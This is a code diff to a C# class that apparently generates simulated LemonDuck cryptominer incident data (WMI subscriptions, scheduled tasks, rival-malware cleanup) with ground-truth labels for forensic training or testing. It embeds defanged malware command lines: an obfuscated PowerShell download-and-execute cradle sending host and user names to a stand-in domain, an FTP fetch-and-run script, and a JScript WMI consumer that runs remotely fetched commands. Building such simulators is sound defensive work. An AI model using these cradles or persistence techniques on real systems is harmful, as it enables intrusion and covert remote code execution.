@@ -1,6 +1,7 @@
 using Afterpatch.Generator.EventLog;
 using Afterpatch.Generator.Registry;
 using Afterpatch.Generator.Scenarios;
+using Afterpatch.Generator.Wmi;
 
 namespace Afterpatch.Generator.Attacks;
 
@@ -10,6 +11,10 @@ internal sealed class LemonDuck(Incident incident, DateTime utc)
     private const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
 
     private static readonly string[] Rivals = [@"\Update4", @"\Mysa1", @"\Mysa2", @"\ok", @"\oka", @"\sysupdate"];
+
+    private static readonly string[] RivalServices = ["xWinWpdSrv", "Sougoudl", "WinHelp64", "mssecsvc2.1", "SRDSL", "ExpressVNService"];
+
+    private static readonly string[] RivalPrograms = ["xmrig", "conhoste", "lsmosee", "secuams", "minerd"];
 
     private readonly string[] _names = [incident.Chance.Letters(8), incident.Chance.Letters(7), incident.Chance.Letters(9)];
 
@@ -66,10 +71,23 @@ internal sealed class LemonDuck(Incident incident, DateTime utc)
         incident.Change(at, machine => machine.Tasks.Register(path, TaskXml.Of(at, path, interval, command, arguments), id, at.AddMinutes(1)));
     }
 
+    /// <summary>A filter that only says "taken", and a pair of one random tail that fetches and runs.</summary>
     private void Subscriptions()
     {
-        incident.Event(ServerEvents.WmiBinding(utc.AddSeconds(55), "blackball", "blackball", "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'", "powershell -w hidden -c blackball"));
-        incident.Truth("wmi-subscription", "a WMI subscription starts PowerShell", "wmi", "blackball", utc.AddSeconds(55), "succeeded");
+        const string query = "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
+        var at = utc.AddSeconds(55);
+        var tail = incident.Chance.Letters(6);
+        var command = Inert.Clear("/c pow~ershell -w hidden -c function a($u){$d=(Ne`w-Obj`ect Net.WebC`lient).\"Down`loadD`ata\"($u);I`E`X(-join[char[]]$d)}a('http://t.zer~9g.example/aa.jsp?rep_20210316?'+(@($env:COMPUTERNAME,$env:USERNAME)-join'*'))");
+        incident.Change(at, machine =>
+        {
+            machine.Wmi.Filter("blackball", query);
+            machine.Wmi.Filter("f" + tail, query);
+            machine.Wmi.Command("c" + tail, @"c:\windows\system32\cmd.exe", command);
+            machine.Wmi.Bind("f" + tail, WmiSchema.CommandLine, "c" + tail);
+        });
+        incident.Event(ServerEvents.WmiBinding(at, "f" + tail, "c" + tail, query, command.Replace("\"", "\\\"", StringComparison.Ordinal)));
+        incident.Truth("wmi-subscription", "a WMI filter that says the machine is taken", "wmi", "blackball", at, "succeeded");
+        incident.Truth("wmi-subscription", "a WMI subscription starts PowerShell", "wmi", "c" + tail, at, "succeeded");
     }
 
     private void Network()
@@ -93,16 +111,36 @@ internal sealed class LemonDuck(Incident incident, DateTime utc)
         incident.Truth("self-mitigation", "compression of SMB was switched off against others", "registry", "DisableCompression", at, "succeeded");
     }
 
-    /// <summary>A rival was there for weeks; its tasks go now.</summary>
+    /// <summary>A rival was there for weeks; its tasks, services, programs and its subscription go now.</summary>
     private void RivalsRemoved()
     {
+        var come = utc.AddDays(-40);
         foreach (var rival in Rivals)
         {
             var id = incident.Chance.Guid();
-            incident.Change(utc.AddDays(-40), machine => machine.Tasks.Register(rival, TaskXml.Of(utc.AddDays(-40), rival, "PT30M", "cmd.exe", Inert.Clear("/c echo open ftp.ft~p0930.example>s&echo test>>s&echo 1433>>s&echo binary>>s&echo get a.exe>>s&echo bye>>s&ft~p -s:s&a.exe")), id));
+            incident.Change(come, machine => machine.Tasks.Register(rival, TaskXml.Of(come, rival, "PT30M", "cmd.exe", Inert.Clear("/c echo open ftp.ft~p0930.example>s&echo test>>s&echo 1433>>s&echo binary>>s&echo get a.exe>>s&echo bye>>s&ft~p -s:s&a.exe")), id));
             incident.Change(utc.AddSeconds(70), machine => machine.Tasks.Delete(rival));
             incident.Event(ServerEvents.TaskDeleted(utc.AddSeconds(70), rival, @"NT AUTHORITY\SYSTEM"));
         }
+        foreach (var (service, at) in RivalServices.Select((service, i) => (service, utc.AddSeconds(72 + i))))
+        {
+            incident.Change(come, machine => ServiceBaseline.Add(machine, service, $@"C:\Windows\Fonts\{service}.exe", "LocalSystem", service, 2, 0x10));
+            foreach (var verb in (string[])[$"config {service} start= disabled", $"stop {service}", $"delete {service}"])
+                incident.WorkerProcess(at, @"C:\Windows\System32\sc.exe", $"\"C:\\Windows\\system32\\sc.exe\" {verb}", PowerShell);
+            incident.Change(at, machine => machine.Services.DeleteKey(service));
+            incident.Truth("competitor-cleanup", "a service of other malware was disabled, stopped and deleted", "service", service, at, "succeeded");
+        }
+        foreach (var (name, at) in RivalPrograms.Select((name, i) => (name, utc.AddSeconds(80 + i))))
+            incident.WorkerProcess(at, @"C:\Windows\System32\taskkill.exe", $"taskkill /f /im {name}.exe", PowerShell);
+        incident.Change(come, machine =>
+        {
+            machine.Wmi.Filter("coronav4", "SELECT * FROM __TimerEvent WHERE TimerID = 'coronav4_itimer'");
+            machine.Wmi.Script("coronav4_consumer", "JScript", Inert.Clear("var toff=3000;var url1=\"http://wmi.1217~bye.example/kill.html\";http=new ActiveXObject(\"Msxml2.Server~XMLHTTP\");http.open(\"GET\",url1,false);http.send();ps=new ActiveXObject(\"WScr~ipt.Sh~ell\");ps.ru~n(http.responseText,0);"));
+            machine.Wmi.Bind("coronav4", WmiSchema.ActiveScript, "coronav4_consumer");
+        });
+        incident.Change(utc.AddSeconds(90), machine => machine.Wmi.Delete("coronav4", "coronav4_consumer"));
         incident.Truth("competitor-cleanup", "tasks of other malware were deleted in bulk", "task", @"\Mysa1", utc.AddSeconds(70), "succeeded");
+        incident.Truth("competitor-cleanup", "programs of other malware were ended", "process", RivalPrograms[0], utc.AddSeconds(80), "succeeded");
+        incident.Truth("wmi-subscription-removed", "a rival's WMI subscription was deleted", "wmi", "coronav4_consumer", come, "succeeded", utc.AddSeconds(90));
     }
 }
